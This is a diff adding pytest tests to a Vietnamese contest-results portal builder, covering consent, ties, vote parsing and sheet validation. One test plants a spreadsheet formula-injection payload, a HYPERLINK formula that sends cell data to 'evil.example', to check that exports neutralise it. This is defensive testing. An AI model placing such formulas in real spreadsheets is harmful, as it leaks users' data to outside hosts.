@@ -252,3 +252,144 @@ def test_minimum_score_and_special_prizes_from_the_decision(tree):
     assert _winners(portal) == {"nhat": [], "kk": ["e-01"], "dac-biet": ["e-04"]}
     codes = sorted(p.code for p in portal.contests[0].problems)
     assert codes == ["JUR006", "RES002", "RES006", "RES006"]  # special differs from none; two tiers short
+
+
+# --- hardening: findings of the review -------------------------------------------------
+
+def test_winner_without_consent_blocks_publication(tree, tmp_path):
+    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
+    entry = tree.root / "2025-thu" / "e-01" / "entry.yml"
+    entry.write_text(entry.read_text(encoding="utf-8").replace("publication: true", "publication: false"),
+                     encoding="utf-8")
+    _sheets(tree, 3)
+    portal = load_portal(tree.root, probe=False)
+    assert [p.code for p in portal.errors] == ["RES005"]
+    config = write_mkdocs_yml(tmp_path)
+    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 1
+
+
+def test_a_tie_settled_by_the_decision_no_longer_blocks(tree):
+    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3)
+    _make(tree, contest, 3)
+    _sheets(tree, 3, score=lambda judge, i: (50, 30))
+    assert "RES001" in [p.code for p in load_portal(tree.root, probe=False).errors]
+    contest["results"]["decision"] = {"number": "1/QĐ", "winners": {"nhat": ["e-02"]}}
+    (tree.root / "2025-thu" / "contest.yml").write_text(yaml.safe_dump(contest, allow_unicode=True), encoding="utf-8")
+    portal = load_portal(tree.root, probe=False)
+    assert portal.errors == [] and _winners(portal) == {"nhat": ["e-02"]}
+
+
+def test_exports_and_sheets_never_hold_live_formulas(tree, tmp_path):
+    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3)
+    _make(tree, contest, 3)
+    entry = tree.root / "2025-thu" / "e-01" / "entry.yml"
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
+    entry.write_text(entry.read_text(encoding="utf-8").replace("Tác phẩm 01", evil.replace('"', "'")), encoding="utf-8")
+    _sheets(tree, 3)
+    config = write_mkdocs_yml(tmp_path)
+    assert cli.main(["build", "-f", str(config), "--site-dir", str(tmp_path / "site")]) == 0
+    book = load_workbook(tmp_path / "site" / "2025-thu" / "ket-qua-2025-thu.xlsx")
+    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" for c in cells)
+    text = (tmp_path / "site" / "2025-thu" / "ket-qua-2025-thu.csv").read_text(encoding="utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+    assert cli.main(["jury-sheets", "-f", str(config), "--out", str(tmp_path / "sheets")]) == 0
+    sheet = load_workbook(tmp_path / "sheets" / "2025-thu" / "gk-1.xlsx").active
+    assert sheet.cell(2, 2).data_type == "s"
+    assert "'=HYPERLINK" in (tmp_path / "sheets" / "2025-thu" / "gk-1.csv").read_text(encoding="utf-8-sig")
+
+
+def test_filled_xlsx_wins_over_a_stale_csv(tree):
+    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
+    _sheets(tree, 3, fmt="xlsx")
+    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
+    for judge in JUDGES:  # the empty CSV the jury-sheets command also wrote
+        write_csv(folder / f"{judge['id']}.csv", ["Mã tác phẩm", "Nội dung", "Hình thức"], [["e-01", "", ""]])
+    portal = load_portal(tree.root, probe=False)
+    assert [p.code for p in portal.contests[0].problems] == ["JUR006"] and _winners(portal) == {"nhat": ["e-01"]}
+
+
+def test_quiz_ties_duplicates_blank_names_and_decomposed_names(tree):
+    import unicodedata
+
+    tiers = [{"id": "tn", "name": "Trắc nghiệm", "count": 2, "basis": "quiz"}]
+    _make(tree, _contest(tiers, n_units=2), 2)
+    _sheets(tree, 2)
+    rows = [["Trần Thị Bình", "Xã 1", 10, "1:35"], ["Trần Thị Bình", "Xã 1", 10, "1:30"], ["", "Xã 2", 12, 50],
+            ["Lê C", "Xã 2", 10, 95], [unicodedata.normalize("NFD", "Đỗ Thị Ánh"), "Xã 1", 10, 95]]
+    write_csv(tree.root / "2025-thu" / "_ket-qua" / "trac-nghiem.csv", ["Họ và tên", "Đơn vị", "Số câu đúng",
+                                                                       "Thời gian"], rows)
+    portal = load_portal(tree.root, probe=False)
+    codes = sorted(p.code for p in portal.contests[0].problems)
+    assert codes == ["JUR006", "RES001", "RES003", "RES010"]
+    tie = next(p for p in portal.contests[0].problems if p.code == "RES001")
+    assert "Lê C" in tie.message("en") and "Đỗ Thị Ánh" in tie.message("en")
+    assert len(_winners(portal)["tn"]) == 2  # the organizers settle the three-way tie in the decision
+
+
+@pytest.mark.parametrize("content,code", [
+    (None, "RES003"),                                   # an XLSX renamed .csv
+    ("Mã tác phẩm,Số bình chọn\ne-01,inf\n", "RES003"),
+    ("Mã tác phẩm,Số bình chọn\ne-01,412.5\n", "RES003"),
+    ("Mã tác phẩm,Số bình chọn\ne-01,-3\n", "RES003"),
+    ("Mã tác phẩm,Số bình chọn\ne-01,10\ne-01,20\n", "JUR005"),
+])
+def test_bad_vote_files_are_reported_not_crashed(tree, tmp_path, content, code):
+    _make(tree, _contest([{"id": "bc", "name": "Bình chọn", "count": 1, "basis": "public_vote"}], n_units=2), 2)
+    path = tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv"
+    if content is None:
+        write_xlsx(tmp_path / "x.xlsx", ["Mã tác phẩm", "Số bình chọn"], [["e-01", 1]])
+        path.parent.mkdir(parents=True)
+        path.write_bytes((tmp_path / "x.xlsx").read_bytes())
+    else:
+        path.parent.mkdir(parents=True)
+        path.write_text(content, encoding="utf-8")
+    portal = load_portal(tree.root, probe=False)
+    assert code in [p.code for p in portal.contests[0].problems]
+
+
+def test_vote_counts_written_the_vietnamese_way(tree):
+    _make(tree, _contest([{"id": "bc", "name": "Bình chọn", "count": 1, "basis": "public_vote"}], n_units=2), 2)
+    write_csv(tree.root / "2025-thu" / "_ket-qua" / "binh-chon.csv", ["Mã tác phẩm", "Số bình chọn"],
+              [["e-01", "1.204"], ["e-02", "988"]])
+    portal = load_portal(tree.root, probe=False)
+    assert _winners(portal) == {"bc": ["e-01"]} and portal.contests[0].results.tiers[0].winners[0].votes == 1204
+
+
+def test_decimal_comma_in_a_csv_sheet_is_not_silently_misread(tree):
+    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=2), 2)
+    folder = tree.root / "2025-thu" / "_ket-qua" / "diem"
+    folder.mkdir(parents=True)
+    (folder / "gk-1.csv").write_text("Mã tác phẩm,Nội dung,Hình thức\ne-01,50,5,30\ne-02,40,30\n", encoding="utf-8")
+    portal = load_portal(tree.root, probe=False)
+    assert "JUR011" in [p.code for p in portal.contests[0].problems]
+
+
+def test_decision_checked_against_the_prize_structure(tree):
+    tiers = [{"id": "nhat", "name": "Giải Nhất", "count": 1}, {"id": "nhi", "name": "Giải Nhì", "count": 1}]
+    contest = _contest(tiers, n_units=3)
+    contest["results"]["decision"] = {"winners": {"nhat": ["e-01", "e-02"], "nhi": ["e-01"]}}
+    _make(tree, contest, 3)
+    _sheets(tree, 3)
+    codes = sorted(p.code for p in load_portal(tree.root, probe=False).contests[0].problems)
+    assert "RES007" in codes and "RES009" in codes
+
+
+def test_invalid_entries_are_not_judged(tree):
+    _make(tree, _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=3), 3)
+    entry = tree.root / "2025-thu" / "e-03" / "entry.yml"
+    entry.write_text(entry.read_text(encoding="utf-8").replace("unit: xa-3", "unit: xa-9"), encoding="utf-8")
+    _sheets(tree, 3)
+    problems = load_portal(tree.root, probe=False).contests[0].problems
+    assert {p.code for p in problems} == {"JUR006", "JUR009"}
+    assert all(not p.is_error for p in problems if p.code == "JUR009")
+
+
+def test_judge_ids_and_tie_breaks_are_checked(tree):
+    contest = _contest([{"id": "nhat", "name": "Giải Nhất", "count": 1}], n_units=2)
+    contest["organization"]["people"] = [{"name": "Nguyễn Văn Nam", "role": "jury"},
+                                         {"name": "Nguyễn  văn Nam", "role": "jury"}]
+    contest["judging"]["tie_breaks"] = ["criterion:typo", "random-thing"]
+    _make(tree, contest, 2)
+    codes = sorted(p.code for p in load_portal(tree.root, probe=False).contests[0].problems)
+    assert codes.count("CON011") == 1 and codes.count("CON012") == 2
